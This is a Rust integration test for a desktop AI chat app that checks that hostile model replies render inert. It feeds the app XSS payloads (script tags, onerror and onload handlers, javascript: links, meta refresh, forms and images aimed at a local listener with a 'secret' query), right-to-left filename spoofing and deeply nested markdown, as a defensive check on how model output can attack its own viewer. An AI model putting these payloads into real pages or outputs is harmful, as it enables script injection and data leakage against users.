//! A transcript written by an adversary, in the real web view: nothing runs, nothing loads, nothing leads away.

use crate::app::App;
use crate::model_server::{ModelServer, calls, text};
use serde_json::json;
use std::net::TcpListener;

/// Everything that could act by itself, or that a press could set off without the shell's question.
const ACTIVE: &str = "script, style, link, meta, base, iframe, frame, object, embed, form, input, select, textarea, \
    img, picture, video, audio, source, svg:not([aria-hidden]), math, [href], [src], [style], [srcdoc], [formaction]";

/// Presses every word that looks like a link.
const PRESS: &str = "for (const element of document.querySelectorAll('.markdown .prose *')) {\
        const words = element.textContent;\
        if (['press me', 'reference', 'x'].includes(words) || words.startsWith('javascript:')) element.click();\
    }";

/// The active elements in model text, as HTML.
fn active() -> String {
    format!(
        "return [...document.querySelectorAll('.markdown')].flatMap((box) => [...box.querySelectorAll({})]\
         .filter((element) => !element.closest('figcaption')).map((element) => element.outerHTML))",
        json!(ACTIVE)
    )
}

/// One reply each: nesting without end makes a whole reply plain text, and must not hide the others.
fn hostile(stranger: &str) -> Vec<String> {
    let markup = [
        "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>".to_owned(),
        format!(
            "<style>* {{ display: none !important }}</style><iframe src='{stranger}/frame'></iframe>\
             <form action='{stranger}/form'><input name=key><button>Allow once</button></form>"
        ),
        format!(
            "<link rel=stylesheet href={stranger}/css><meta http-equiv=refresh content='0;url={stranger}/'>"
        ),
        format!(
            "[press me](javascript:window.pwned=1) [x](data:text/html,<script>1</script>) ![x]({stranger}/leak.png?secret)"
        ),
        "[a]: javascript:window.pwned=1\n\n[reference][a] <javascript:window.pwned=1>".to_owned(),
        "pay \u{202e}gpj.exe\u{202c} now\u{200b}".to_owned(),
        "```html\n<script>window.pwned = 1</script>\n```".to_owned(),
        "| <img src=x onerror=\"window.pwned=1\"> |\n|---|\n| <svg onload=\"window.pwned=1\"> |".to_owned(),
        "the end of it".to_owned(),
    ];
    vec![
        markup.join("\n\n"),
        format!("{}deep\n\nthe end of quotes", "> ".repeat(3_000)),
        format!("{}\n\nthe end of lists", "- x\n  ".repeat(400)),
        format!("{}nested{}\n\nthe end of links", "[".repeat(2_000), "](x)".repeat(2_000)),
    ]
}

/// R61: model text is inert, and what hides in it is visible.
#[tokio::test]
async fn a_hostile_transcript_is_inert() {
    let stranger = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", stranger.local_addr().unwrap());
    let path = "<img src=x onerror=window.pwned=1>\u{202e}txt.exe";
    let mut replies = vec![calls(&[("c1", "read_file", json!({"path": path}))])];
    replies.extend(hostile(&address).iter().map(|words| text(words)));
    let server = ModelServer::start(replies);
    let app = App::start_with(&server.settings()).await.unwrap();
    let shop = app.workspace("shop").unwrap();
    app.first_run(&shop).await.unwrap();
    app.invoke("select_model", json!({"profileId": "served", "model": "scripted"})).await.unwrap();
    // What scrolls out of sight isn't in the page any more, so each reply is looked at while it is there.
    for (end, also) in [
        ("the end of it", "pay \\u{202e}gpj.exe\\u{202c} now\\u{200b}"),
        ("the end of quotes", "deep"),
        ("the end of lists", "x"),
        ("the end of links", "nested"),
    ] {
        app.say("<b onmouseover=alert(1)>hello</b>").await.unwrap();
        app.page.see(end).await.unwrap();
        app.page.see(also).await.unwrap();
        app.end_of_run().await.unwrap();
        assert_eq!(app.page.run(&active()).await.unwrap(), json!([]), "{end}");
        app.page.run(PRESS).await.unwrap();
        assert_eq!(app.page.run("return window.pwned ?? null").await.unwrap(), json!(null), "{end}");
        assert_eq!(app.page.run("return location.href").await.unwrap(), "tauri://localhost", "{end}");
        app.picture(&format!("hostile {end}")).unwrap();
    }
    app.page.see("u{202e}txt.exe").await.unwrap();
    stranger.set_nonblocking(true).unwrap();
    assert!(stranger.accept().is_err(), "the page called a stranger");
    app.page.press("Audit").await.unwrap();
    app.page.see("read_file").await.unwrap();
}
